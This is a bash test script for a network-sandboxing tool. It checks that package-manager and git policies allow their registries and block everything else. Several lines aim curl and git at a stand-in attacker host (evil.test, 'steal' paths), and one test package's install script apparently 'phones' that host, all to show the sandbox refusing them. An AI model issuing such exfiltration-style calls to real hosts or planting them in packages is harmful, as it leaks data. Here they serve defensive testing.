#!/usr/bin/env bash
# The shipped policies of package tools and git, with the real tools: what each needs works, a name it does not
# need is refused at once and told with the line that would allow it. The internet is a tree of files, served
# for every name by one nginx with a certificate of a CA made here.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/tools_lib.sh"

P=$TEST_TOP/policies

need() { command -v "$1" > /dev/null || skip "$1 is not installed ($2)"; }

# in_jail POLICY CMD...: its own trust in the CA is the environment's affair, see tools_lib.sh.
in_jail() {
    local policy=$1 options=(-q)
    shift
    grep -q '^param registry ' "$P/$policy.conf" && options+=(-D registry=registry.test)
    assert_status 0 "$NETJAIL" "${options[@]}" -p "$P/$policy.conf" "$@"
}

# refuses POLICY: a name that none of them lists, at once, with the line; and an address nobody resolved.
refuses() {
    local policy=$1 options=(-q)
    grep -q '^param registry ' "$P/$policy.conf" && options+=(-D registry=registry.test)
    run "$NETJAIL" "${options[@]}" -p "$P/$policy.conf" curl -sS https://evil.test/steal
    assert_equal "$status" 6 "curl's status for a name that does not resolve ($err)"
    assert_contains "$err" 'denied name evil.test (no rule admits this name)'
    assert_contains "$err" 'hint: allow out tcp to evil.test'
    run "$NETJAIL" "${options[@]}" -p "$P/$policy.conf" curl -skS "https://$EVIL4/steal"
    assert_equal "$status" 7 "curl's status for a refused connection ($err)"
    assert_contains "$err" "allow out tcp to $EVIL4 port 443"
    nobody_came_to_evil
}

both_curl() {
    local p
    p=$(policy web <<< $'link relay\nallow out tcp to www.test port 443\nlog denied')
    assert_status 0 "$NETJAIL" -q -p "$p" curl -sS https://www.test/
    assert_equal "$out" 'hello from www.test'
    run "$NETJAIL" -q -p "$p" curl -sS http://www.test/
    assert_equal "$status" 7 'another port of the name'
    assert_contains "$err" 'port 80'
    assert_status 6 "$NETJAIL" -q -p "$p" curl -sS https://evil.test/
    # A registry by its name on the command line, and with no policy but that.
    assert_status 0 "$NETJAIL" -q --allow 'out tcp to www.test port 443' curl -sS https://www.test/
    assert_status 6 "$NETJAIL" -q --allow 'out tcp to www.test port 443' curl -sS https://registry.test/
    nobody_came_to_evil
}

both_npm() {
    need npm nodejs
    make_npm_registry
    mkdir "$T/project"
    cd "$T/project"
    echo '{"name": "project", "version": "1.0.0", "dependencies": {"hello": "1.0.0"}}' > package.json
    in_jail npm npm install --package-lock-only --no-audit --no-fund
    in_jail npm npm ci --no-audit --no-fund --foreground-scripts
    assert_equal "$(node -p 'require("hello")')" hello
    # The script of the package tried a name and an address: refused, told, and npm went on.
    assert_equal "$(cat node_modules/hello/phoned)" "evil.test EAI_AGAIN
$EVIL4 ECONNREFUSED"
    assert_contains "$err" 'denied name evil.test'
    assert_contains "$err" 'hint: allow out tcp to evil.test'
    assert_contains "$err" "hint: allow out tcp to $EVIL4 port 443"
    nobody_came_to_evil
    refuses npm
    run "$NETJAIL" -q -p "$P/npm.conf" npm ci
    assert_equal "$status" 125 'without -D'
    assert_contains "$err" '-D registry='
    in_jail npm curl -sSf https://nodejs.org/
    # A registry with an address of the local network needs the line of npm.conf's comment.
    assert_status 6 "$NETJAIL" -q -p "$P/npm.conf" -D registry=intra.test curl -sS https://intra.test/
    printf 'include %s\ndns { private $registry }\n' "$P/npm.conf" > "$T/intra.conf"
    assert_status 0 "$NETJAIL" -q -p "$T/intra.conf" -D registry=intra.test curl -sS https://intra.test/
}

both_pip() {
    python3 -m pip --version > /dev/null 2>&1 || skip 'pip is not installed (python3-pip)'
    make_python_index
    in_jail pip python3 -m pip download --no-cache-dir --no-deps -d "$T/got" hello
    [ -s "$T/got/hello-1.0-py3-none-any.whl" ] || fail "nothing was fetched: $out"
    refuses pip
}

# rustup's tools are in a home directory: only root's own can be used here.
root_cargo() {
    PATH=$PATH:/root/.cargo/bin
    need cargo cargo
    make_crates
    mkdir -p "$T/crate/src"
    cd "$T/crate"
    printf '[package]\nname = "crate"\nversion = "0.1.0"\nedition = "2018"\n[dependencies]\nhello = "1.0.0"\n' > Cargo.toml
    echo 'fn main() {}' > src/main.rs
    export CARGO_HOME=$T/cargo CARGO_HTTP_CAINFO=$T/ca.pem CARGO_NET_RETRY=0
    in_jail cargo cargo fetch
    assert_contains "$(ls "$CARGO_HOME"/registry/cache/*)" hello-1.0.0.crate
    refuses cargo
}

both_go() {
    need go golang-go
    make_go_proxy
    mkdir "$T/module"
    cd "$T/module"
    printf 'module project\n\ngo 1.18\n\nrequire example.test/hello v1.0.0\n' > go.mod
    export GOPATH=$T/go GOCACHE=$T/go-cache GONOSUMDB='*' GOFLAGS='-mod=mod -modcacherw' SSL_CERT_FILE=$T/ca.pem
    in_jail go go mod download example.test/hello@v1.0.0
    [ -s "$GOPATH/pkg/mod/example.test/hello@v1.0.0/hello.go" ] || fail "nothing was fetched: $err"
    in_jail go curl -sSf https://sum.golang.org/
    in_jail go curl -sSf https://storage.googleapis.com/
    refuses go
}

# Names of the local network, and no other: whoever asks a name server there asks the internet.
both_lan_only() {
    in_jail lan-only curl -sS https://nas.lan/
    assert_equal "$out" 'hello from nas.lan'
    assert_status 6 "$NETJAIL" -q -p "$P/lan-only.conf" curl -sS https://www.test/
    assert_status 6 "$NETJAIL" -q -p "$P/lan-only.conf" curl -sS https://intra.test/
    printf '%s\n' 'dns { private intra.test }' 'allow out to intra.test' "include $P/lan-only.conf" > "$T/mine.conf"
    assert_status 0 "$NETJAIL" -q -p "$T/mine.conf" curl -sS https://intra.test/
    assert_status 0 "$NETJAIL" -q --dns "$OUTSIDE4" -p "$P/lan-only.conf" curl -sS https://nas.lan/
}

both_agent_with_an_exception() {
    local options=(-q -p "$T/mine.conf")
    assert_status 7 "$NETJAIL" -q -p "$P/agent.conf" curl -skS "https://$PRIVATE4/"
    printf '%s\n' "allow out tcp to $PRIVATE4 port 443" "include $P/agent.conf" > "$T/mine.conf"
    assert_status 0 "$NETJAIL" "${options[@]}" curl -skS "https://$PRIVATE4/"
    assert_status 7 "$NETJAIL" "${options[@]}" curl -skS "http://$PRIVATE4/"
}

both_apt_build() {
    need apt-get apt
    need dpkg-deb dpkg
    make_mirror
    in_jail apt-build apt-get $APT update
    assert_lacks "$err" denied
    in_jail apt-build apt-get $APT download hello
    [ -s hello_1.0_all.deb ] || fail "nothing was fetched: $out $err"
    in_jail apt-build curl -sSf https://registry.test/debian/Packages
    refuses apt-build
}

both_git_over_https() {
    need git git
    make_repository
    in_jail github git clone -q https://github.com/hello.git "$T/clone"
    assert_equal "$(cat "$T/clone/file")" content
    local name
    for name in codeload.github.com raw.githubusercontent.com objects.githubusercontent.com release-assets.githubusercontent.com; do
        in_jail github curl -sSf "https://$name/"
    done
    run "$NETJAIL" -q -p "$P/github.conf" git clone -q https://evil.test/hello.git "$T/evil"
    assert_equal "$status" 128
    assert_contains "$err" 'Could not resolve host: evil.test'
    assert_contains "$err" 'hint: allow out tcp to evil.test'
    refuses github
}

both_git_over_ssh() {
    need git git
    need ssh openssh-client
    [ -s "$T/sshd.pub" ] || skip 'sshd is not installed (openssh-server)'
    make_repository
    ssh-keygen -q -t ed25519 -N '' -f "$T/key"
    cat "$T/key.pub" > "$T/authorized"
    printf 'github.com,evil.test %s\n' "$(cat "$T/sshd.pub")" > "$T/known"
    export GIT_SSH_COMMAND="ssh -F none -i $T/key -o IdentitiesOnly=yes -o UserKnownHostsFile=$T/known -o StrictHostKeyChecking=yes"
    in_jail git-ssh git clone -q "root@github.com:$T/www/github.com/hello.git" "$T/clone"
    assert_equal "$(cat "$T/clone/file")" content
    in_jail git-ssh git clone -q https://github.com/hello.git "$T/clone2"
    # Without the jail the other name works: the refusal below is ours.
    assert_status 0 git clone -q "root@evil.test:$T/www/github.com/hello.git" "$T/clone3"
    run "$NETJAIL" -q -p "$P/git-ssh.conf" git clone -q "root@evil.test:$T/www/github.com/hello.git" "$T/evil"
    assert_equal "$status" 128
    assert_contains "$err" 'Could not resolve hostname evil.test'
    assert_contains "$err" 'hint: allow out tcp to evil.test'
    refuses git-ssh
}

run_tests "$@"
